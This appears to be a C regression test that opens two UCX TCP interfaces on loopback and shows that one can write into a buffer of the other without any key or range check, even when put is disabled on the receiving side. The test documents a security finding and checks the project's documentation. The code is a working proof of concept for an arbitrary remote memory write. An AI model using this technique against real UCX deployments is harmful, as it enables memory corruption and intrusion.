/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What UCX's TCP transport serves to whoever connects to it (docs/security.md, "What UCX
 * itself serves to a connected peer"): a put request (UCT_TCP_EP_PUT_REQ_AM_ID) is copied to
 * the address its header names, with no key and no range check, and the receive loop handles
 * it whatever the receiving interface was configured with. This test opens two TCP interfaces
 * on lo in one process, the victim with UCX_TCP_PUT_ENABLE=n (the one setting about puts;
 * the test checks it took: the victim's interface offers no put), and has the other put into a
 * buffer of the victim that it was never told about in any key. The put's completion comes
 * with the victim's acknowledgement, so when it completes the victim has served it.
 *
 * It passes when the put lands: that is the finding, on UCX 1.13.1 and 1.22.0, and why
 * kvxfer cannot close this route from the receiving side (only by UCX_TLS without tcp, or by
 * keeping the interfaces out of untrusted peers' reach). It fails, and the docs must change,
 * on a UCX whose receiving side refuses such a put.
 *
 * Usage: ucx_tcp_put_test [DEVICE] (default lo).
 */
#define _POSIX_C_SOURCE 200809L
#include <uct/api/uct.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static int failures;

#define CHECK(cond, ...)                                             \
  do {                                                               \
    if (!(cond)) {                                                   \
      fprintf(stderr, "FAIL %s:%d: ", __FILE__, __LINE__);           \
      fprintf(stderr, __VA_ARGS__);                                  \
      fprintf(stderr, "\n");                                         \
      failures++;                                                    \
    }                                                                \
  } while (0)

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

typedef struct put_done {
  uct_completion_t comp;
  int done;
} put_done_t;

static void on_put_done(uct_completion_t *comp) {
  put_done_t *d = (put_done_t *)comp;
  d->done = 1;
}

/* Opens the tcp interface on dev with UCX_TCP_PUT_ENABLE=put_enable ("y" or "n"), read from
 * the environment as a deployment would set it. */
static ucs_status_t open_iface(uct_md_h md, uct_worker_h worker, const char *dev, const char *put_enable,
                               uct_iface_h *iface, uct_iface_attr_t *attr) {
  uct_iface_config_t *cfg;
  if (setenv("UCX_TCP_PUT_ENABLE", put_enable, 1) != 0) return UCS_ERR_NO_MEMORY;
  ucs_status_t st = uct_md_iface_config_read(md, "tcp", NULL, NULL, &cfg);
  unsetenv("UCX_TCP_PUT_ENABLE");
  if (st != UCS_OK) return st;
  {
    uct_iface_params_t params;
    memset(&params, 0, sizeof(params));
    params.field_mask = UCT_IFACE_PARAM_FIELD_OPEN_MODE | UCT_IFACE_PARAM_FIELD_DEVICE;
    params.open_mode = UCT_IFACE_OPEN_MODE_DEVICE;
    params.mode.device.tl_name = "tcp";
    params.mode.device.dev_name = dev;
    st = uct_iface_open(md, worker, &params, cfg, iface);
  }
  uct_config_release(cfg);
  if (st == UCS_OK) st = uct_iface_query(*iface, attr);
  if (st == UCS_OK) uct_iface_progress_enable(*iface, UCT_PROGRESS_SEND | UCT_PROGRESS_RECV);
  return st;
}

/* One attack: a victim interface with put_enable, an attacker that puts n bytes at the
 * victim's buffer. Returns whether the victim's buffer holds the attacker's bytes after the
 * put completed; -1 if the put did not complete within the bound. */
static int attack(uct_md_h md, uct_worker_h worker, const char *dev, const char *victim_put_enable) {
  enum { N = 4096 };
  uct_iface_h victim = NULL, attacker = NULL;
  uct_iface_attr_t vattr, aattr;
  uct_ep_h ep = NULL;
  uct_mem_h memh = UCT_MEM_HANDLE_NULL;
  int landed = -1;
  unsigned char *secret = malloc(N), *payload = malloc(N);
  void *dev_addr = NULL, *iface_addr = NULL;
  if (secret == NULL || payload == NULL) goto out;
  memset(secret, 0x5e, N);
  for (int i = 0; i < N; i++) payload[i] = (unsigned char)(i * 7 + 1);

  ucs_status_t st = open_iface(md, worker, dev, victim_put_enable, &victim, &vattr);
  CHECK(st == UCS_OK, "victim iface: %s", ucs_status_string(st));
  if (st != UCS_OK) goto out;
  if (strcmp(victim_put_enable, "n") == 0) {
    CHECK(!(vattr.cap.flags & UCT_IFACE_FLAG_PUT_ZCOPY), "PUT_ENABLE=n did not take: the victim offers put zcopy");
  }
  st = open_iface(md, worker, dev, "y", &attacker, &aattr);
  CHECK(st == UCS_OK, "attacker iface: %s", ucs_status_string(st));
  if (st != UCS_OK) goto out;
  CHECK(aattr.cap.flags & UCT_IFACE_FLAG_PUT_ZCOPY, "the attacker's iface has no put zcopy");
  CHECK(aattr.cap.flags & UCT_IFACE_FLAG_CONNECT_TO_IFACE, "tcp connects to an iface address");

  dev_addr = calloc(1, vattr.device_addr_len + 1);
  iface_addr = calloc(1, vattr.iface_addr_len + 1);
  if (dev_addr == NULL || iface_addr == NULL) goto out;
  st = uct_iface_get_device_address(victim, dev_addr);
  if (st == UCS_OK) st = uct_iface_get_address(victim, iface_addr);
  CHECK(st == UCS_OK, "victim's address: %s", ucs_status_string(st));
  if (st != UCS_OK) goto out;

  uct_ep_params_t ep_params;
  memset(&ep_params, 0, sizeof(ep_params));
  ep_params.field_mask = UCT_EP_PARAM_FIELD_IFACE | UCT_EP_PARAM_FIELD_DEV_ADDR | UCT_EP_PARAM_FIELD_IFACE_ADDR;
  ep_params.iface = attacker;
  ep_params.dev_addr = dev_addr;
  ep_params.iface_addr = iface_addr;
  st = uct_ep_create(&ep_params, &ep);
  CHECK(st == UCS_OK, "attacker's ep: %s", ucs_status_string(st));
  if (st != UCS_OK) goto out;

  /* UCX 1.13's tcp md registers nothing but a dummy handle; 1.22's has no registration */
  st = uct_md_mem_reg(md, payload, N, UCT_MD_MEM_ACCESS_ALL, &memh);
  if (st == UCS_ERR_UNSUPPORTED) memh = UCT_MEM_HANDLE_NULL, st = UCS_OK;
  CHECK(st == UCS_OK, "registering the payload: %s", ucs_status_string(st));
  if (st != UCS_OK) goto out;
  uct_iov_t iov = {.buffer = payload, .length = N, .memh = memh, .stride = 0, .count = 1};
  put_done_t d = {.comp = {.func = on_put_done, .count = 1, .status = UCS_OK}, .done = 0};

  /* The connection is made as the worker progresses: until then the put is refused for
   * resources, and posted again. Bounded: 30 s, far beyond a loopback connection. */
  double deadline = now_s() + 30;
  do {
    st = uct_ep_put_zcopy(ep, &iov, 1, (uint64_t)(uintptr_t)secret, UCT_INVALID_RKEY, &d.comp);
    if (st == UCS_ERR_NO_RESOURCE) uct_worker_progress(worker);
  } while (st == UCS_ERR_NO_RESOURCE && now_s() < deadline);
  CHECK(st == UCS_OK || st == UCS_INPROGRESS, "put zcopy: %s", ucs_status_string(st));
  if (st == UCS_INPROGRESS) {
    while (!d.done && now_s() < deadline) uct_worker_progress(worker);
  } else if (st == UCS_OK) {
    d.done = 1;
  }
  if (d.done) {
    CHECK(d.comp.status == UCS_OK, "the put completed with %s", ucs_status_string(d.comp.status));
    landed = memcmp(secret, payload, N) == 0;
  }

out:
  if (memh != UCT_MEM_HANDLE_NULL) uct_md_mem_dereg(md, memh);
  if (ep != NULL) uct_ep_destroy(ep);
  if (attacker != NULL) uct_iface_close(attacker);
  if (victim != NULL) uct_iface_close(victim);
  free(dev_addr);
  free(iface_addr);
  free(secret);
  free(payload);
  return landed;
}

int main(int argc, char **argv) {
  const char *dev = argc > 1 ? argv[1] : "lo";
  uct_component_h *components;
  unsigned num;
  ucs_status_t st = uct_query_components(&components, &num);
  if (st != UCS_OK) {
    fprintf(stderr, "uct_query_components: %s\n", ucs_status_string(st));
    return 1;
  }
  uct_component_h tcp = NULL;
  for (unsigned i = 0; i < num; i++) {
    uct_component_attr_t attr = {.field_mask = UCT_COMPONENT_ATTR_FIELD_NAME};
    if (uct_component_query(components[i], &attr) == UCS_OK && strcmp(attr.name, "tcp") == 0) tcp = components[i];
  }
  if (tcp == NULL) {
    fprintf(stderr, "this UCX has no tcp component\n");
    uct_release_component_list(components);
    return 1;
  }
  uct_md_config_t *md_cfg;
  uct_md_h md = NULL;
  st = uct_md_config_read(tcp, NULL, NULL, &md_cfg);
  if (st == UCS_OK) {
    st = uct_md_open(tcp, "tcp", md_cfg, &md);
    uct_config_release(md_cfg);
  }
  ucs_async_context_t *async = NULL;
  uct_worker_h worker = NULL;
  if (st == UCS_OK) st = ucs_async_context_create(UCS_ASYNC_MODE_THREAD_SPINLOCK, &async);
  if (st == UCS_OK) st = uct_worker_create(async, UCS_THREAD_MODE_SINGLE, &worker);
  if (st != UCS_OK) {
    fprintf(stderr, "opening tcp: %s\n", ucs_status_string(st));
    return 1;
  }

  const char *settings[] = {"n", "y"};
  for (int i = 0; i < 2; i++) {
    int landed = attack(md, worker, dev, settings[i]);
    CHECK(landed == 1, "victim with UCX_TCP_PUT_ENABLE=%s: put %s", settings[i],
          landed < 0 ? "did not complete" : "completed but the victim's bytes did not change");
    printf("victim with UCX_TCP_PUT_ENABLE=%s: a keyless put to its buffer %s\n", settings[i],
           landed == 1 ? "landed" : "did not land");
  }

  uct_worker_destroy(worker);
  ucs_async_context_destroy(async);
  uct_md_close(md);
  uct_release_component_list(components);
  if (failures) {
    fprintf(stderr, "%d failure(s)\n", failures);
    return 1;
  }
  printf("ok\n");
  return 0;
}
